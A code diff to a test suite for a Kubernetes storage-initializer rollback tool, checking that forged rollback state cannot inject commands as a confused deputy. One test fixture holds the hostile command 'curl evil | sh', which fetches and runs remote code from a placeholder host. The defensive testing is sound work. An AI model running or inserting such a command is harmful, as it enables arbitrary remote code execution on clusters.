@@ -43,7 +43,7 @@ async function rollback(req: Partial<RollbackRequest> = {}) {
   const outcome = await runChange(
     s.client,
     live => (plan = planRollback(live, {force: false, ...req}, {warn: () => {}, diff: () => {}})),
-    opts({requireDoc: false, force: req.force}),
+    opts({requireDoc: false}),
   )
   return {outcome, plan: plan!}
 }
@@ -93,10 +93,10 @@ describe('credentials never go into the history', () => {
 describe('rollback is no confused deputy', () => {
   test('an ordinary undo says every value it writes', async () => {
     const {plan} = await rollback()
-    expect(plan.details).toEqual([
-      'configmap image: "kserve/storage-initializer:v0.30.1" -> "kserve/storage-initializer:v0.20.0"',
-      'storage-container/default image: "kserve/storage-initializer:v0.30.1" -> "kserve/storage-initializer:v0.20.0"',
-    ])
+    expect(plan.details).toEqual({
+      configmap: ['image: "kserve/storage-initializer:v0.30.1" -> "kserve/storage-initializer:v0.20.0"'],
+      'storage-container/default': ['image: "kserve/storage-initializer:v0.30.1" -> "kserve/storage-initializer:v0.20.0"'],
+    })
   })
 
   test("a forged before that sets a ClusterStorageContainer's command and env is refused, and nothing is written", async () => {
@@ -117,7 +117,7 @@ describe('rollback is no confused deputy', () => {
     // named by the operator, after seeing the values: written, and said
     const {plan} = await rollback({allowFields: ['command', 'env']})
     expect(csc().spec.container.command).toEqual(['sh', '-c', 'curl evil | sh'])
-    expect(plan.details).toContain('storage-container/default command: (absent) -> ["sh","-c","curl evil | sh"]')
+    expect(plan.details['storage-container/default']).toContain('command: (absent) -> ["sh","-c","curl evil | sh"]')
   })
 
   test('a forged ConfigMap field beyond image and resources is refused (case variants of our own fields are ours)', async () => {
